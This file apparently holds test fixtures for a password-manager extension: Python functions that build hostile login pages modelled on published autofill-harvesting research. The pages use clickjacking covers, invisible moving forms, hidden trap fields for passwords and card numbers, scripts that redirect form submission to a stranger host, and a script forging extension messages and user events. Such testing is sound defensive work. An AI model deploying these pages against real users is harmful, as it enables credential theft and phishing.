"""The bodies of pages that try to harvest a fill: a login, and what attackers put around, over and under it.

The ways are those of Silver et al. (USENIX Security 2014), Oesch and Ruoti (USENIX Security 2020), Toth (DEF CON 33).
Texts alone; who serves them is `theatre.py`, whose marks between `@` they use.
"""

USER = "<input id=user name=username autocomplete=username>"
SECRET = "<input id=pw name=password type=password autocomplete=current-password>"
BUTTON = "<button id=go>Sign in</button>"
COVER = "position:fixed;inset:0;z-index:99;background:#fff;"


def login(user: str = USER, secret: str = SECRET, attributes: str = "action=@sent@ method=post", more: str = "") -> str:
    """An ordinary login form."""
    fields = f"<p><label>User name {user}</label></p><p><label>Password {secret}</label></p>"
    return f"<h1>Sign in</h1><form {attributes}>{fields}{BUTTON}{more}</form>"


LOGIN = login()
CODE = (
    "<h1>Two-step verification</h1><form action=@sent@ method=post><label>Verification code "
    f"<input id=code name=otp autocomplete=one-time-code inputmode=numeric maxlength=6></label>{BUTTON}</form>"
)
WITH_CODE = login(more="<p><label>Verification code <input id=code name=otp autocomplete=one-time-code></label></p>")
SIGN_UP = (
    "<h1>Create an account</h1><form action=@sent@ method=post><p><label>E-mail <input id=user name=email type=email "
    "autocomplete=username></label></p><p><label>Choose a password <input id=pw name=new type=password "
    "autocomplete=new-password></label></p><button id=go>Create account</button></form>"
)
BARE = "<h1>Sign in</h1><p>User name <input id=user></p><p>Password <input id=pw type=password></p>"
UNSAID = "<h1>Sign in</h1><input id=user><input id=pw type=password>"


def inside(style: str, body: str = LOGIN) -> str:
    """The body in a box of this style."""
    return f'<div style="{style}">{body}</div>'


def under(style: str, body: str = LOGIN) -> str:
    """The body below a cover of the whole page."""
    return f'{body}<div style="{COVER}{style}">Accept cookies?</div>'


def tiled(body: str = LOGIN) -> str:
    """The body below a cover of many pieces, each smaller than a field, through which a pointer passes."""
    tile = "position:fixed;width:25px;height:25px;z-index:99;background:#fff;pointer-events:none"
    tiles = (
        f'<div style="{tile};left:{left}px;top:{top}px"></div>'
        for left in range(0, 450, 25)
        for top in range(0, 300, 25)
    )
    return body + "".join(tiles)


def script(text: str, body: str = LOGIN) -> str:
    """The body and a script after it."""
    return f"{body}<script>{text}</script>"


def framed(frame: str, style: str = "", attributes: str = "", source: str = "") -> str:
    """A frame in a page that says something else."""
    where = source or f"src='@url:{frame}@'"
    box = "width:420px;height:320px;border:1px solid #888;"
    return f'<h1>News of the day</h1><iframe {where} {attributes} style="{box}{style}"></iframe><p>More news.</p>'


def written(frame: str) -> str:
    """A frame without an address of its own, into which its page writes."""
    text = (
        f"const inner = document.querySelector('iframe').contentDocument; inner.write(@text:{frame}@); inner.close();"
    )
    return f"<h1>News</h1><iframe style='width:420px;height:320px'></iframe><script>{text}</script>"


def blob(frame: str) -> str:
    """A frame of a document that its page made."""
    address = f"URL.createObjectURL(new Blob([@text:{frame}@], {{type: 'text/html'}}))"
    frame = "<h1>News</h1><iframe style='width:420px;height:320px'></iframe>"
    return script(f"document.querySelector('iframe').src = {address};", frame)


def popover(body: str = LOGIN) -> str:
    """The body below an element of the top layer, which nothing of the page can lie above."""
    style = "margin:0;border:0;padding:0;width:100vw;height:100vh;max-width:none;max-height:none;background:#fff;"
    style += "pointer-events:none"
    return f"{body}<div id=over popover=manual style='{style}'>Accept?</div><script>over.showPopover()</script>"


MOVING = (
    f"<div id=box style='position:fixed;opacity:.01'>{LOGIN}</div><script>let at = 0; const move = () => {{ at += 3;"
    "box.style.left = at % 300 + 'px'; box.style.top = at % 200 + 'px'; requestAnimationFrame(move); }; move();"
    "addEventListener('mousemove', (event) => { at = event.clientX; });</script>"
)
TURN = "document.forms[0].action = '@stranger@@sent@';"
LATER = script(
    f"addEventListener('input', () => setTimeout(() => {{ {TURN} globalThis.turned = true; }}, 1000), {{once: true}})"
)
IN_SUBMIT = script(f"document.forms[0].addEventListener('submit', () => {{ {TURN} }})")
IN_CLICK = script(
    f"go.addEventListener('click', (event) => {{ event.preventDefault(); {TURN} document.forms[0].submit(); }})"
)
MIRROR = script(
    "pw.addEventListener('input', () => { mirror.value = pw.value; })",
    login(more="<p>Nickname <input id=mirror name=nickname type=text></p>"),
)
TRAPS = login(
    more="".join(
        f"<input id=trap{at} name={name} type={kind} autocomplete={token} style='{style}'>"
        for at, (name, kind, token, style) in enumerate(
            [
                ("password2", "password", "current-password", "opacity:0"),
                ("password3", "password", "current-password", "position:absolute;left:-5000px"),
                ("email", "email", "username", "display:none"),
                ("card", "text", "cc-number", ""),
                ("phone", "tel", "tel", "height:0;border:0;padding:0"),
            ]
        )
    )
)
# Everything that a page can send to an extension or make look as if it came from one.
FORGER = script(
    """
  const words = [{type: "fill", page: "", address: location.href, values: {}, fields: {}, sites: [], act: true},
    {type: "popup:fill", tab: 1, page: "", record: "@@", confirmed: true}, {type: "page:fields"}, {type: "look"},
    {type: "watch", milliseconds: 9e5}];
  const forge = () => {
    for (const word of words) {
      postMessage(word, "*");
      dispatchEvent(new CustomEvent("wayfill", {detail: word}));
      dispatchEvent(new MessageEvent("message", {data: word}));
      document.dispatchEvent(new CustomEvent(word.type, {detail: word}));
      for (const api of [globalThis.chrome, globalThis.browser]) {
        try {
          api?.runtime?.sendMessage?.(new URL("@extension@").host, word, () => {});
          api?.runtime?.connect?.(new URL("@extension@").host);
        } catch {}
      }
    }
    const mark = document.createElement("wayfill-mark");
    mark.setAttribute("role", "button");
    mark.attachShadow({mode: "open"}).innerHTML = "<button>Wayfill</button>";
    document.body.append(mark);
    for (const target of [user, pw, mark, mark.shadowRoot.firstChild, document, globalThis]) {
      for (const name of ["pointerdown", "mousedown", "mouseup", "click", "contextmenu", "focusin", "dblclick"]) {
        target.dispatchEvent(new MouseEvent(name, {bubbles: true, composed: true}));
      }
      const keys = {key: "L", code: "KeyL", ctrlKey: true, shiftKey: true, bubbles: true, composed: true};
      for (const name of ["keydown", "keypress", "keyup"]) target.dispatchEvent(new KeyboardEvent(name, keys));
      target.click?.();
      target.focus?.();
    }
    dispatchEvent(new PageTransitionEvent("pageshow", {persisted: true}));
    document.dispatchEvent(new Event("visibilitychange"));
  };
  // An extension's scripts come after the page's own, some only when they are wanted.
  for (const time of [0, 150, 300, 450]) setTimeout(forge, time);
  for (const path of ["popup/popup.html", "options/options.html", "background/main.js"]) {
    const frame = document.createElement("iframe");
    frame.src = "@extension@" + path;
    document.body.append(frame);
  }
""".replace("@@", "00000000-0000-4000-8000-000000000000")
)


def going_on(frame: str, body: str = LOGIN, after: str = "filled") -> str:
    """The body, which goes on to another page of the play: once its last field was filled, or after a while."""
    go = f"location.href = '@url:{frame}@'"
    last = "[...document.querySelectorAll('#user, #pw')].at(-1)"
    on_fill = f"{last}.addEventListener('change', () => setTimeout(() => {{ {go} }}, 60))"
    return script(on_fill if after == "filled" else f"setTimeout(() => {{ {go} }}, 500)", body)


def opening(*frames: str, body: str) -> str:
    """The body, which opens other pages of the play in tabs of their own soon after its user name was filled."""
    calls = "".join(f"open('@url:{frame}@');" for frame in frames)
    return script(f"user.addEventListener('change', () => setTimeout(() => {{ {calls} }}, 300))", body)


NAME_ONLY = (
    f"<h1>Sign in</h1><form action=@sent@ method=post><label>User name {USER}</label>"
    "<button id=go>Continue</button></form>"
)
